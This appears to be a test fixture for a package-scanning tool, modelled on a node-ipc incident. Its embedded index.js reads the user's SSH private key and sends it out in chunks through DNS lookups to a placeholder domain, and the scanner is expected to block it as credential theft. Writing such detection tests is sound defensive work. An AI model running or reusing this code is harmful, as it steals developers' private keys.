import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-dns-exfiltration',
  from: 'node-ipc, 2026: secrets in the names that are looked up',
  files: {
    'index.js': `const dns = require('dns');
const fs = require('fs');
const os = require('os');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa').toString('hex');
for (let at = 0; at < key.length; at += 60) dns.resolveTxt(key.slice(at, at + 60) + '.dns.invalid', () => {});
`,
  },
  expect: 'block',
  says: ['sends-credentials'],
};
